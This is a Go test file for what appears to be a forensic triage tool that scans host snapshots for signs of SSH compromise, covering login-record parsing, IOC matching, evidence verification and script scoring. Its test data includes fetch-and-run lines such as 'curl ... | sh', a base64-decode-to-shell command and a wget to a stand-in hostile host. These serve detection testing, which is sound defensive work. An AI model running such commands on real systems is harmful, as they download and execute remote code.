package triage

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/postern-ssh/postern/audit/facts"
	"github.com/postern-ssh/postern/audit/snapshot"
)

// record makes one of wtmp's records.
func record(kind int16, user, host string, at int64, addr [16]byte) []byte {
	b := make([]byte, recordSize)
	binary.LittleEndian.PutUint16(b, uint16(kind))
	copy(b[44:76], user)
	copy(b[76:332], host)
	binary.LittleEndian.PutUint32(b[340:], uint32(at))
	copy(b[348:], addr[:])
	return b
}

func TestRecords(t *testing.T) {
	data := record(recordUser, "root", "198.51.100.7", 1299889800, [16]byte{198, 51, 100, 7})
	data = append(data, make([]byte, recordSize)...)
	data = append(data, record(recordBoot, "reboot", "6.1", 1299889900, [16]byte{})...)
	data = append(data, 1, 2, 3) // half a record is none
	got, empty := Records(data)
	if empty != 1 || len(got) != 2 {
		t.Fatalf("%d records, %d empty: %+v", len(got), empty, got)
	}
	if r := got[0]; r.User != "root" || r.Addr.String() != "198.51.100.7" || stamp(r.At) != "2011-03-12T00:30:00Z" || r.Type != recordUser {
		t.Errorf("%+v", r)
	}
	if got[1].Addr.IsValid() {
		t.Errorf("an address that is not there: %v", got[1].Addr)
	}
}

// FuzzRecords: no bytes bring the reader down, and each record and hole is counted once.
func FuzzRecords(f *testing.F) {
	f.Add(record(recordUser, "root", "h", 1, [16]byte{1}))
	f.Add(make([]byte, 3*recordSize+7))
	f.Fuzz(func(t *testing.T, data []byte) {
		got, empty := Records(data)
		if len(got)+empty != len(data)/recordSize {
			t.Errorf("%d records and %d holes in %d bytes", len(got), empty, len(data))
		}
		if back := fromHex([]byte(hex.EncodeToString(data))); !bytes.Equal(back, data) {
			t.Errorf("hex is not read back")
		}
	})
}

func TestKernelAddress(t *testing.T) {
	for in, want := range map[string]string{
		"0100007F:1A0B":                         "127.0.0.1:6667",
		"00000000000000000000000001000000:0016": "[::1]:22",
		"0000000000000000FFFF00000100007F:0016": "127.0.0.1:22",
		"zz:1":                                  "invalid AddrPort",
		"":                                      "invalid AddrPort",
	} {
		if got := kernelAddress(in).String(); got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
}

func TestProcLine(t *testing.T) {
	for _, c := range []struct {
		line, what string
		pid        int
		rest       string
		ok         bool
	}{
		{"/proc/12/stat:12 (x) S", "/stat:", 12, "12 (x) S", true},
		{"/proc/12/cmdline:/proc/1/cmdline:x", "/cmdline:", 12, "/proc/1/cmdline:x", true},
		{"/proc/self/stat:1", "/stat:", 0, "", false},
		{"/proc/0/stat:1", "/stat:", 0, "", false},
		{"/proc/99999999999999999999/stat:1", "/stat:", 0, "", false},
		{"x", "/stat:", 0, "", false},
	} {
		pid, rest, ok := procLine(c.line, c.what)
		if ok != c.ok || ok && (pid != c.pid || rest != c.rest) {
			t.Errorf("%q: %d %q %v", c.line, pid, rest, ok)
		}
	}
}

func TestRPMLine(t *testing.T) {
	for in, want := range map[string]bool{
		"S.5....T.    /usr/sbin/sshd":             true,
		"..5......    /usr/lib64/security/pam.so": true,
		"S.5....T.  c /etc/ssh/sshd_config":       false,
		".......T.    /usr/sbin/sshd":             false,
		"missing     /usr/sbin/sshd":              false,
		"Unsatisfied dependencies for /x":         false,
		"":                                        false,
	} {
		if _, _, ok := rpmLine(in); ok != want {
			t.Errorf("%q: %v", in, ok)
		}
	}
}

func TestParseUnit(t *testing.T) {
	u := parseUnit([]byte("# c\n[Service]\nExecStart=@-/bin/sh -c \\\n  x\nExecStart=\nEnvironment=\"LD_PRELOAD=/x.so\"\nUser=bob\n[Install]\nWantedBy=multi-user.target\n"))
	want := unitText{execs: []execLine{{"ExecStart", "/bin/sh -c    x", 3}}, preload: []execLine{{"Environment", `"LD_PRELOAD=/x.so"`, 6}}, user: "bob", wanted: true}
	if d := cmp.Diff(want, u, cmp.AllowUnexported(unitText{}, execLine{})); d != "" {
		t.Error(d)
	}
}

func TestGuardPaths(t *testing.T) {
	got := guardPaths([]byte("[ -e ./update.pid ] && exit\nflock -n /var/lock/x y\nPID=/run/a b.pid -x.pid"), "/root/. ..")
	want := []string{"/root/. ../update.pid", "/var/lock/x", "/root/. ../b.pid"}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

// FuzzHost: whatever a second round brings, the page is made, is bounded, and its ids
// are all different.
func FuzzHost(f *testing.F) {
	f.Add([]byte("/proc/7/stat:7 (x\n/proc/7/stat:y) S 1 1 1 0 -1 4194304 0 0 0 0 0 0 0 0 20 0 1 0 100 0\n"), []byte("/proc/7/cmdline:[kworker]\n"), []byte("[Service]\nExecStart=/tmp/x\n"), "/memfd:x (deleted)")
	f.Add([]byte("/proc/1/stat:1 ("), []byte("left 0\n"), []byte("RUN+=\"/tmp/x\""), "")
	f.Fuzz(func(t *testing.T, stat, words, file []byte, exe string) {
		deep := &snapshot.Snapshot{Complete: true, Privilege: snapshot.PrivilegeRoot,
			Files: []snapshot.File{
				{Path: "/etc/ld.so.preload", Type: 'f', Size: int64(len(file)), Content: file},
				{Path: "/etc/pam.d/sshd", Type: 'f', Size: int64(len(file)), Content: file},
				{Path: "/etc/profile.d/x", Type: 'f', Size: int64(len(file)), Content: file},
				{Path: "/etc/systemd/system/x.service", Type: 'f', Size: int64(len(file)), Content: file},
				{Path: "/etc/udev/rules.d/x", Type: 'f', Size: int64(len(file)), Content: file},
				{Path: "/proc/7/exe", Type: 'l', Target: exe},
				{Path: "/proc/net/tcp", Type: 'f', Content: file},
			},
			Outputs: []snapshot.Output{{Name: snapshot.OutConffiles, Data: words}, {Name: snapshot.OutProcExes, Data: stat}, {Name: snapshot.OutProcStat, Data: stat}, {Name: snapshot.OutProcWords, Data: words}, {Name: snapshot.OutSums, Data: words}, {Name: snapshot.OutSumsFound, Data: stat}},
		}
		first := &snapshot.Snapshot{Complete: true}
		if err := first.Keep(deep); err != nil {
			t.Skip(err)
		}
		h := Look(first, facts.Options{Name: "h"})
		seen := map[string]bool{}
		for i := range h.Things {
			if seen[h.Things[i].ID] {
				t.Errorf("two things have the id %s", h.Things[i].ID)
			}
			seen[h.Things[i].ID] = true
		}
		if len(h.Things) > 20*maxThings || len(h.Timeline) > maxEvents {
			t.Errorf("%d things, %d moments", len(h.Things), len(h.Timeline))
		}
	})
}

// FuzzParseIOC: a list is read or refused with its lines, and what it holds is found in
// a text that holds it.
func FuzzParseIOC(f *testing.F) {
	f.Add("update\n198.51.100.0/24\n# c\nname: 1.2.3.4\n")
	f.Add("SHA256:short\nssh-ed25519 AAA\n\x00\n")
	f.Fuzz(func(t *testing.T, list string) {
		l, err := ParseIOC("list", []byte(list))
		if err != nil {
			if !strings.Contains(err.Error(), "list:") {
				t.Errorf("an error without its place: %v", err)
			}
			return
		}
		x := &finder{l: l, seen: map[string]bool{}}
		x.text(list, "list", nil)
		for w, ioc := range l.words {
			if ioc.Kind != "name" || strings.Contains(w, "://") {
				continue
			}
			x := &finder{l: l, seen: map[string]bool{}}
			x.text("a "+w+" b", "", nil)
			if len(x.hits) == 0 {
				t.Errorf("%q is not found in a text that holds it", w)
			}
			break
		}
	})
}

func TestIOCFinds(t *testing.T) {
	l, err := ParseIOC("l", []byte("198.51.100.0/24\n2001:db8::1\nupdate\n/opt/x/run\n. ..\nd41d8cd98f00b204e9800998ecf8427e\nevil.example\n"))
	if err != nil {
		t.Fatal(err)
	}
	for text, want := range map[string]int{
		"curl http://198.51.100.9/x":           1,
		"from [2001:db8::1]:22 port 3":         1,
		"sh '/root/. ../update'":               2,
		"/opt/x/run --now":                     1,
		"/opt/x/runner":                        0,
		"D41D8CD98F00B204E9800998ECF8427E  /x": 1,
		"wget https://evil.example/p":          1,
		"updates":                              0,
		"198.51.101.9":                         0,
	} {
		x := &finder{l: l, seen: map[string]bool{}}
		x.text(text, "", nil)
		if len(x.hits) != want {
			t.Errorf("%q: %d hits, want %d: %+v", text, len(x.hits), want, x.hits)
		}
	}
}

// keepOne writes a folder of evidence.
func keepOne(t interface{ Fatal(...any) }, dir string) {
	first := &snapshot.Snapshot{Files: []snapshot.File{
		{Path: "/etc/cron.d/x", Type: 'f', UID: 0, Content: []byte("* * * * * root x\n"), Size: 17, MTime: time.Unix(1, 5)},
		{Path: "/root/. ../update", Type: 'f', Content: []byte("#!/bin/sh\n"), Size: 10},
		{Path: "/root/.ssh/id", Type: 'f', UID: 0},
	}, Gaps: []snapshot.Gap{{Path: "/root/.ssh/id", Kind: snapshot.GapWithheld, Reason: "it holds a private key"}}}
	h := &Host{Host: "web/../1", Things: []Thing{{ID: "job-1", Severity: "high", Files: []string{"/etc/cron.d/x", "/root/.ssh/id", "/root/. ../update", "/gone"}}}}
	if n, err := Keep(dir, time.Unix(100, 0), []Keeping{{Host: h, First: first}}); err != nil || n != 2 {
		t.Fatal(n, err)
	}
}

// TestVerifyFindsEveryBit changes one bit, one name or one file of kept evidence.
func TestVerifyFindsEveryBit(t *testing.T) {
	top := t.TempDir()
	n := 0
	rapid.Check(t, func(rt *rapid.T) {
		n++
		dir := filepath.Join(top, "e", hex.EncodeToString(binary.AppendUvarint(nil, uint64(n))))
		if err := os.MkdirAll(dir, 0o700); err != nil {
			rt.Fatal(err)
		}
		keepOne(rt, dir)
		if c, err := Verify(dir); err != nil || len(c.Faults) > 0 || c.Files != 3 || c.Known != 2 {
			rt.Fatal(c, err)
		}
		var files []string
		filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
			if err == nil && !d.IsDir() {
				files = append(files, p)
			}
			return nil
		})
		file := rapid.SampledFrom(files).Draw(rt, "file")
		data, err := os.ReadFile(file)
		if err != nil {
			rt.Fatal(err)
		}
		os.Chmod(file, 0o600)
		what := rapid.SampledFrom([]string{"bit", "cut", "more", "gone", "added", "renamed"}).Draw(rt, "what")
		switch what {
		case "bit":
			data[rapid.IntRange(0, len(data)-1).Draw(rt, "byte")] ^= 1 << rapid.IntRange(0, 7).Draw(rt, "bit")
			err = os.WriteFile(file, data, 0o600)
		case "cut":
			err = os.WriteFile(file, data[:rapid.IntRange(0, len(data)-1).Draw(rt, "length")], 0o600)
		case "more":
			err = os.WriteFile(file, append(data, rapid.SliceOfN(rapid.Byte(), 1, 9).Draw(rt, "more")...), 0o600)
		case "gone":
			err = os.Remove(file)
		case "added":
			err = os.WriteFile(file+"x", nil, 0o600)
		case "renamed":
			err = os.Rename(file, file+"x")
		}
		if err != nil {
			rt.Fatal(err)
		}
		c, err := Verify(dir)
		if err == nil && len(c.Faults) == 0 {
			rt.Errorf("%s of %s was not found", what, file)
		}
	})
}

// FuzzVerify: no manifest brings the checker down or leads it out of its folder.
func FuzzVerify(f *testing.F) {
	f.Add([]byte("{\"format\":\"postern-evidence-1\"}\n{\"name\":\"../x\",\"size\":1}\nend 00\n"))
	f.Fuzz(func(t *testing.T, manifest []byte) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, manifestName), manifest, 0o600); err != nil {
			t.Fatal(err)
		}
		if c, err := Verify(dir); err == nil && len(c.Faults) == 0 && c.Files > 0 {
			t.Errorf("files that are not there were verified")
		}
	})
}

func TestScriptSigns(t *testing.T) {
	l := &looker{out: &Host{}}
	for _, c := range []struct{ name, text, least string }{
		{"fetch and run", "#!/bin/sh\nif true; then\n  curl -s http://198.51.100.7/x | sh\nfi\n", "high"},
		{"decode", "echo aWQ= | base64 -d | sh\n", "high"},
		{"temporary", "#!/bin/bash\n/dev/shm/.x/run &\n", "medium"},
		{"dots", "#!/bin/sh\nexec '/root/. ../update'\n", "high"},
		{"stock profile", "if [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do\n    . $i\n  done\nfi\n", "none"},
		{"perl", "#!/usr/bin/perl\nsystem('curl http://198.51.100.7/x | sh');\n", "none"},
		{"comment", "# curl http://198.51.100.7/x | sh\n", "none"},
	} {
		got, why := l.script("/x", []byte(c.text), "root")
		if c.least == "none" && got != "none" || levels[got] < levels[c.least] {
			t.Errorf("%s: %s %q", c.name, got, why)
		}
	}
}

// TestSecondRoundGaps: what the first round read is no gap of the second's, and
// what neither read is one.
func TestSecondRoundGaps(t *testing.T) {
	const table, other = "/var/spool/cron/crontabs/root", "/var/spool/cron/crontabs/alice"
	denied := func(p string) snapshot.Gap {
		return snapshot.Gap{Path: p, Kind: snapshot.GapDenied, Reason: "it could not be read"}
	}
	first := &snapshot.Snapshot{Files: []snapshot.File{{Path: table, Type: 'f', Content: []byte("0 1 * * * true\n"), Size: 15}}, Complete: true}
	if err := first.Keep(&snapshot.Snapshot{Complete: true, Gaps: []snapshot.Gap{denied(other), denied(table)}}); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, g := range Look(first, facts.Options{Now: time.Unix(1, 0)}).Gaps {
		if g.Path == table || g.Path == other {
			got = append(got, g.Path)
		}
	}
	if want := []string{other}; !slices.Equal(got, want) {
		t.Errorf("gaps %q, want %q", got, want)
	}
}
